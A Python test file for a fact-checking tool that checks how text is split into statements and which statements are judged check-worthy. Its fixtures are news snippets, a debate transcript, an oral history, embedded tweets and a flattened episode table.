        "President Trump's job approval numbers: 43.6 percent of Americans approve of the job "
        "he's doing and 52.0 percent disapprove, not the other way around.\n"
    )
    triage = triage_text(text)
    row = next(r for r in triage.rows if r.text.startswith("CORRECTION"))
    assert not row.check_worthy
    assert any("line(s) 2 are a correction notice" in note for note in triage.notes)
    assert next(r for r in triage.rows if r.text.startswith("Trump's")).check_worthy


def test_a_turn_cut_off_or_a_question_is_not_check_worthy_and_is_named_in_a_note() -> None:
    """Probe s47 C1: a debate's interrupted turn "The county lost —" (0.65) and the moderator's
    question (0.63) were check-worthy; the finished turn and the figure it gives stay so."""
    transcript = (
        "REYES: That's not true. The county lost —\n"
        "HAYES: Let me finish. The bridge on Route 9 was repaired on time and under budget.\n"
        "MODERATOR: Ms Reyes, where does the 40 percent figure come from?\n"
        "REYES: The county lost two hospitals since 2020. Crime went up 40% downtown.\n"
    )
    triage = triage_text(transcript)
    by_text = {r.text: r for r in triage.rows}
    assert by_text["The county lost —"].score >= triage.threshold  # the model's score, kept
    assert not by_text["The county lost —"].check_worthy
    assert not by_text["Ms Reyes, where does the 40 percent figure come from?"].check_worthy
    assert by_text["The county lost two hospitals since 2020."].check_worthy
    assert by_text["Crime went up 40% downtown."].check_worthy
    assert any(
        "line(s) 1 are cut off mid-sentence; on line(s) 3 ask a question" in note
        for note in triage.notes
    ), triage.notes


def test_a_pointer_to_other_content_is_not_check_worthy_and_is_named_in_a_note() -> None:
    """Probe s51 C2: "See also brief video ... :" scored 0.996, was check-worthy and carried
    another video's "false" fact-check; the article's own claim beside it stays check-worthy."""
    text = (
        "The foundation has vaccinated 80 million children in Africa and Asia since 2000.\n"
        "See also brief video featuring Author Bill Still (6 min) entitled The Truth about Bill "
        "Gates and his disastrous Vaccination Programs around the World:\n"
    )
    triage = triage_text(text)
    by_line = {r.line: r for r in triage.rows}
    assert not by_line[2].check_worthy
    assert by_line[1].check_worthy
    assert any("line(s) 2 point to other content" in note for note in triage.notes), triage.notes


# probe s47 C6: an oral history (NYT, a prison's outbreak told by its officers and inmates)
# whose labels carry who the speaker is or how their words came, and whose writer speaks
# between the turns: the closing paragraph was given to the last "Ronald Morris:" turn.
ORAL_HISTORY = """\
Ronald Morris, correctional officer, union local president: I got a phone call saying we had an inmate go out with symptoms.
Alice Jones, Patrick Jones's mother: They lied. He did not have a chronic illness.
Ronald Morris: We found out that Jones tested positive on the 21st.
Don Cain, inmate at F.C.I. Oakdale I, via email: I was told that a staff member bragged about going to New York City.
Mayor Paul: We're a close-knit community, so there is a lot of concern.
Ronald Morris, via text, April 3: Five inmate deaths. Eighteen inmates in hospital.

On April 8, a violent clash between inmates and officers at Oakdale I occurred after a transfer.
Ronald Morris: The administration screwed up. They didn't educate the inmates.
Don Cain, via email: I know one thing is, if I do pass, my family has one heck of a suit.
On April 17, a Bureau of Prisons spokeswoman responded with a statement: "We direct you to our public website."
Mayor Paul: We don't have a morgue at the Oakdale hospital.
"""


def test_an_oral_historys_described_speakers_and_its_writers_narration() -> None:
    rows = {s.text: s.speaker for s in split_statements(ORAL_HISTORY)}
    assert rows["I got a phone call saying we had an inmate go out with symptoms."] == (
        "Ronald Morris"
    )
    assert rows["They lied."] == "Alice Jones"
    assert rows["I was told that a staff member bragged about going to New York City."] == (
        "Don Cain"
    )
    assert rows["Five inmate deaths."] == "Ronald Morris"
    assert rows["I know one thing is, if I do pass, my family has one heck of a suit."] == (
        "Don Cain"
    )
    narration = [t for t in rows if t.startswith("On April")]
    assert len(narration) == 2 and all(rows[t] is None for t in narration), rows


# a how-to's list: its item labels name no one, so nothing in it is anyone's turn
HOW_TO = """\
How to wash your hands properly during the outbreak

Step 1: Wet your hands with clean running water and apply soap.
Step 2: Lather your hands by rubbing them together for 20 seconds.
Step 3: Rinse your hands well under clean, running water.

Step 1: Fill a bowl with warm water.
Step 2: Add a spoon of soap and stir it in.
Step 3: Soak the towel for ten minutes.

DO: Use a clean towel or air dry your hands afterwards.
DON'T: Touch your eyes, nose or mouth with unwashed hands.
DO: Carry a hand sanitiser that contains at least 60 percent alcohol.
DON'T: Share towels with anyone who is sick.

The Centers for Disease Control says hand washing cuts respiratory illness by 21 percent.
"""


def test_a_lists_item_labels_are_no_speakers() -> None:
    statements = split_statements(HOW_TO)
    assert [s.speaker for s in statements] == [None] * len(statements)
    assert any("21 percent" in s.text for s in statements)


def test_a_writers_closing_line_is_no_statement_as_in_analyze() -> None:
    """Probe s48 C3, left by fix2: `analyze`'s claims left the op-ed's closing bio out, but
    `veracity claims` still ranked it check-worthy; one rule (nlp.document.writer_bio) for both."""
    oped = (
        "Top football recruits bring in big money for colleges\n\n"
        "Schools that secure five-star recruits can increase total revenue by over $500,000 for "
        "a university's athletic department, and most football teams never secure one.\n\n"
        "Trevon Logan is a professor of economics at The Ohio State University.\n\n"
        "This article originally was published on The Conversation.\n"
    )
    texts = [s.text for s in split_statements(oped)]
    assert texts and not any("Trevon Logan" in t for t in texts), texts
    assert any(t.startswith("Schools that secure") for t in texts)
    # the same line opening a piece is a statement; and a line given alone (--lines) is kept
    opening = (
        "Trevon Logan is a professor of economics at The Ohio State University.\n\nA.\n\nB.\n\nC.\n"
    )
    assert split_statements(opening)[0].text.startswith("Trevon Logan")
    assert split_statements(oped, by_line=True)[4].text.startswith("Trevon Logan")


def test_an_embedded_posts_words_are_its_posters_without_its_picture_link() -> None:
    """Probe s48 C2, left by fix2: a fan's embedded tweet was a check-worthy row with no speaker,
    and a picture link whose signature sits on the next line stayed in the row."""
    text = (
        "Kaepernick's stance drew criticism from the president on Friday night in Alabama.\n\n"
        '... trump taking a veiled shot at colin kaepernick, says owner should say: "get that '
        "sonofabitch off the field right now... he's fired!!\" pic.twitter.com/ttbOd0VrPG\n\n"
        "— fake nick ramsey (@nick_ramsey) September 23, 2017\n\n"
        "Smh &amp; all because @Kaepernick7 is exercising his right as an American citizen to "
        "protest.\n\n"
        "— Bishop Sankey (@BishopSankey) September 23, 2017\n\n"
        "The league said 28 players knelt during the anthem on Sunday.\n"
    )
    rows = {s.text: s.speaker for s in split_statements(text)}
    assert rows[
        '... trump taking a veiled shot at colin kaepernick, says owner should say: "get that '
        "sonofabitch off the field right now... he's fired!!\""
    ] == ("fake nick ramsey (@nick_ramsey)")
    assert rows[
        "Smh &amp; all because @Kaepernick7 is exercising his right as an American citizen to "
        "protest."
    ] == ("Bishop Sankey (@BishopSankey)")
    # the article's own sentences keep no speaker
    assert rows["The league said 28 players knelt during the anthem on Sunday."] is None
    assert (
        rows["Kaepernick's stance drew criticism from the president on Friday night in Alabama."]
        is None
    )
    # a page flattened to one line: the article's words before a post's last sentence stay its own
    flat = (
        "The senator spoke for an hour on the floor about the bill and its costs to taxpayers. " * 5
        + "America does not hate Islam. — Qasim Rashid (@MuslimIQ) September 19, 2016\n"
    )
    rows = [(s.text, s.speaker) for s in split_statements(flat)]
    assert rows[-1] == ("America does not hate Islam.", "Qasim Rashid (@MuslimIQ)"), rows
    assert all(speaker is None for _, speaker in rows[:-1])
    # a sentence running on past a signature into the article's words keeps no speaker
    joined = (
        "Police said more. #TerenceCrutcher — Kris Stewart (@krisinreelworld) September 19, 2016 "
        "According to the Tulsa World, U.S. Attorney Danny Williams said the inquiry was open.\n"
    )
    assert [s.speaker for s in split_statements(joined) if "Tulsa World" in s.text] == [None]


# A table copied to text as its cells run repeats each field's value before the next field's
# label: "Maria Lopez Judges:" is a value and a field, not a speaker, and no name read so
# carries on over the rows after it (GossipCop gossipcop-5470901036, a Wikipedia episode table:
# "Arnold Schwarzenegger" was the speaker of 147 of its 284 rows).
EPISODE_TABLE = """\
Round one Challenge: Teams had to cook a three-course dinner for forty guests in two hours.
Teams had to cook a three-course dinner for forty guests in two hours. Head Chef: Maria Lopez
Maria Lopez Judges: Tom Reed, Ana Silva, Paul Grant
Tom Reed, Ana Silva, Paul Grant Winner: Blue team
Blue team Reasons for win: The kitchen served every plate on time and raised $12,000.
The kitchen served every plate on time and raised $12,000. Eliminated: Dana Cole
Round two Challenge: Teams had to run a food truck for a day in downtown Chicago.
Teams had to run a food truck for a day in downtown Chicago. Head Chef: Maria Lopez
Maria Lopez Judges: Tom Reed, Lee Park, Paul Grant
Tom Reed, Lee Park, Paul Grant Winner: Red team
Red team Reasons for win: The truck sold 900 meals, twice as many as the other team.
The truck sold 900 meals, twice as many as the other team. Eliminated: Sam Ortiz
"""


def test_a_flattened_tables_field_labels_are_no_speakers():
    statements = split_statements(EPISODE_TABLE)
    assert len(statements) >= 10
    assert {s.speaker for s in statements} == {None}
    by_line = split_statements(EPISODE_TABLE, by_line=True)
    assert [s.speaker for s in by_line if s.line not in (1, 7)] == [None] * 10
    # a moderator who names the next speaker is no table: the label that follows is a turn
    turns = split_statements(
        "MODERATOR: Governor Smith\nGovernor Smith: Thank you. We cut taxes by 10 percent.\n"
        "MODERATOR: Senator Jones\nSenator Jones: The deficit doubled under the governor.\n"
    )
    by_text = {s.text: s.speaker for s in turns}
    assert by_text["We cut taxes by 10 percent."] == "Governor Smith"
    assert by_text["The deficit doubled under the governor."] == "Senator Jones"
